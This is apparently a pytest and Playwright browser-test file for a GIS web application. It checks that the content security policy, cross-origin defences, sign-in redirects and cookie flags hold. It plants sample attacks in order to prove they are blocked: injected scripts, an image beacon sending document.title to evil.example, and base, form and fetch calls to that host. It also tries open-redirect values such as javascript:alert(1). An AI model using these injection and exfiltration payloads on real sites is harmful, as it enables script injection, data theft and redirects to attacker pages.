"""What browsers are told not to do, and that the pages do not need it.

A violation of the content security policy is an error in the console, and ``new_page`` lets no test pass that shows one; here
every page is opened at the size of a desk and of a phone, and what must be blocked is tried.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from gisapp.services.accounts import DEMO_PASSWORD
from tests.browser.conftest import DESK, Served, sign_in, wait_for_map

DESKTOP = {"viewport": {"width": 1920, "height": 1080}}
PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
COLLECT = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));
"""
PAGES = [
    ("leader", "/", "#map[data-idle=true]"),
    ("leader", "/cases", ".ag-row"),
    ("leader", "/assessment", ".ag-row"),
    ("leader", "/screen", ".maplibregl-canvas"),
    ("manager", "/grids", "#map[data-idle=true]"),
    ("manager", "/imports", "#import-drop"),
    ("planner", "/analysis", "#map[data-idle=true]"),
    ("planner", "/docs", "section"),
    (None, "/sign-in", "#login"),
]


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desk", "phone"])
@pytest.mark.parametrize(("login", "path", "drawn"), PAGES, ids=[path for _, path, _ in PAGES])
def test_no_page_breaks_its_own_policy(
    new_page: Callable[..., Page], size: dict[str, Any], login: str | None, path: str, drawn: str
) -> None:
    page = new_page(login, **size)
    page.add_init_script(COLLECT)
    page.goto(path)
    page.wait_for_selector(drawn, timeout=60_000)
    if page.locator("#map").count():
        wait_for_map(page)
    page.pdf()  # printing draws the map and its legend again
    assert page.evaluate("window.violations") == []


def test_dates_menus_and_drawing_keep_to_the_policy_too(new_page: Callable[..., Page]) -> None:
    page = new_page("planner")
    page.add_init_script(COLLECT)
    page.goto("/analysis")
    wait_for_map(page)
    page.locator("#analysis-days").click()
    page.wait_for_selector(".mantine-DatePickerInput-calendarHeader, .mantine-DatePickerInput-levelsGroup")
    page.keyboard.press("Escape")
    page.locator("#user-menu").click()
    page.get_by_role("menuitem", name="退出登录").wait_for()
    page.keyboard.press("Escape")
    page.click("#theme-toggle")
    expect(page.locator("html")).to_have_attribute("data-theme", "light")
    assert page.evaluate("window.violations") == []


# --- what is planted does not run ----------------------------------------------------------------------------------

PLANTED = {
    "script-src-elem": """() => {
        const inline = document.createElement('script');
        inline.textContent = 'window.ran = true';
        document.body.append(inline);
        const foreign = document.createElement('script');
        foreign.src = 'http://evil.example/x.js';
        document.body.append(foreign);
    }""",
    "script-src-attr": """() => {
        document.body.insertAdjacentHTML('beforeend', '<img src="data:,x" onerror="window.ran = true">');
    }""",
    # Later, because what the debugger itself runs may use eval.
    "script-src": """() => { setTimeout(() => { try { eval('window.ran = true'); } catch { /* refused */ } }, 0); }""",
    "frame-src": """() => {
        const frame = document.createElement('iframe');
        frame.src = '/';
        document.body.append(frame);
    }""",
    "object-src": """() => {
        const object = document.createElement('object');
        object.data = '/assets/favicon.svg';
        document.body.append(object);
    }""",
    "img-src": """() => { new Image().src = 'http://evil.example/?' + document.title; }""",
    "connect-src": """() => { fetch('http://evil.example/').catch(() => {}); }""",
    "style-src-elem": """() => {
        document.head.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="http://evil.example/x.css">');
    }""",
    "base-uri": """() => {
        document.head.insertAdjacentHTML('afterbegin', '<base href="http://evil.example/">');
    }""",
    "form-action": """() => {
        const form = document.createElement('form');
        form.action = 'http://evil.example/';
        document.body.append(form);
        form.submit();
    }""",
    "worker-src": """() => { try { new Worker('data:text/javascript,1'); } catch { /* refused */ } }""",
}


@pytest.fixture
def bare(browser: Browser, served: Served) -> Iterator[BrowserContext]:
    """A browser with a session, whose console may show what was refused."""
    context = browser.new_context(base_url=served.url, locale="zh-CN", viewport=DESK)
    yield context
    context.close()


@pytest.mark.parametrize("directive", PLANTED)
def test_what_is_planted_in_a_page_is_refused(bare: BrowserContext, directive: str) -> None:
    answered: list[str] = []
    page = bare.new_page()
    sign_in(page, "leader")
    page.add_init_script(COLLECT)
    page.goto("/imports")
    page.wait_for_selector(".top-bar .brand")
    page.on("response", lambda answer: answered.append(answer.url))
    page.evaluate(PLANTED[directive])
    page.wait_for_function("(name) => window.violations.includes(name)", arg=directive)
    assert page.evaluate("window.ran") is None
    assert [url for url in answered if "evil.example" in url] == []


# --- pages of another origin ---------------------------------------------------------------------------------------


class Stranger(BaseHTTPRequestHandler):
    """Another server on the same machine: the same site to a browser, so our cookie travels, but another origin."""

    def do_GET(self) -> None:
        body = b"<!doctype html><title>stranger</title><body>stranger</body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@pytest.fixture
def stranger(bare: BrowserContext) -> Iterator[Page]:
    """A page of another origin in a browser that is signed in as the grid manager."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    Thread(target=server.serve_forever, daemon=True).start()
    page = bare.new_page()
    sign_in(page, "manager")
    page.goto(f"http://127.0.0.1:{server.server_port}/")
    yield page
    server.shutdown()
    server.server_close()


SUBMIT = """([url, type]) => {
    const form = document.createElement('form');
    Object.assign(form, { action: url, method: 'post', enctype: type });
    form.innerHTML = '<input name="file" value="a,b">';
    document.body.append(form);
    form.submit();
}"""


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/api/v1/events", "text/plain"),
        ("/api/v1/imports", "multipart/form-data"),
        ("/_dash-update-component", "text/plain"),
        ("/api/v1/session", "application/x-www-form-urlencoded"),
    ],
)
def test_a_form_of_another_origin_writes_nothing(
    stranger: Page, served: Served, path: str, kind: str
) -> None:
    with stranger.expect_navigation() as went:
        stranger.evaluate(SUBMIT, [served.url + path, kind])
    answer = went.value
    assert "onemap_session=" in answer.request.all_headers()["cookie"]  # the browser did send it
    assert answer.status == 403 and answer.json()["error"] == "forbidden"


def test_a_page_of_another_origin_opens_no_socket(stranger: Page, served: Served) -> None:
    outcome = stranger.evaluate(
        """(url) => new Promise((done) => {
            const socket = new WebSocket(url);
            socket.onopen = () => done('open');
            socket.onclose = () => done('closed');
        })""",
        served.url.replace("http", "ws", 1) + "/api/v1/live",
    )
    assert outcome == "closed"


def test_a_page_of_another_origin_neither_frames_nor_reads_nor_embeds_ours(
    stranger: Page, served: Served
) -> None:
    outcome = stranger.evaluate(
        """async (url) => {
            const frame = document.createElement('iframe');
            frame.src = url;
            const loaded = new Promise((done) => { frame.onload = () => done(); });
            document.body.append(frame);
            await loaded;
            const image = new Image();
            const shown = new Promise((done) => { image.onload = () => done(true); image.onerror = () => done(false); });
            image.src = url + '/assets/favicon.svg';
            const text = await fetch(url + '/api/v1/events', { credentials: 'include' }).then((a) => a.text()).catch(() => null);
            return [await shown, text];
        }""",
        served.url,
    )
    assert outcome == [False, None]
    framed = [frame for frame in stranger.frames if frame != stranger.main_frame]
    assert [frame.url for frame in framed] == ["chrome-error://chromewebdata/"]


# --- after the sign-in ---------------------------------------------------------------------------------------------

# What browsers read in their own way; the whole table stands in tests/unit/test_local_address.py.
HOSTILE = ["/..//evil.example/", "/\\evil.example/", "/\t/evil.example/", "javascript:alert(1)"]


def test_a_sign_in_never_leaves_this_server(page: Page, served: Served) -> None:
    for address in HOSTILE:
        page.goto(f"/sign-in?next={quote(address, safe='')}")
        page.fill("#login", "leader")
        page.fill("#password", DEMO_PASSWORD)
        page.click("#sign-in-button")
        page.wait_for_url(lambda url: "/sign-in" not in url, wait_until="commit")
        assert re.fullmatch(rf"{re.escape(served.url)}/(#.*)?", page.url), address
        assert page.context.request.delete("/api/v1/session").status == 204


def test_a_sign_in_keeps_the_view_of_the_link(page: Page) -> None:
    page.goto("/cases?state=open#15/30.281/120.163")
    page.wait_for_url(lambda url: "/sign-in?next=" in url)
    page.fill("#login", "leader")
    page.fill("#password", DEMO_PASSWORD)
    page.click("#sign-in-button")
    page.wait_for_url(lambda url: "/cases?state=open" in url and "/sign-in" not in url)
    wait_for_map(page)
    assert "/30.28" in page.url and "/120.16" in page.url


def test_the_session_s_cookie_is_out_of_reach_of_scripts(
    new_page: Callable[..., Page], served: Served
) -> None:
    page = new_page("leader")
    page.goto("/imports")
    assert "onemap_session" not in page.evaluate("document.cookie")
    (cookie,) = page.context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Lax", "/")
    assert httpx.get(f"{served.url}/api/v1/session").status_code == 401
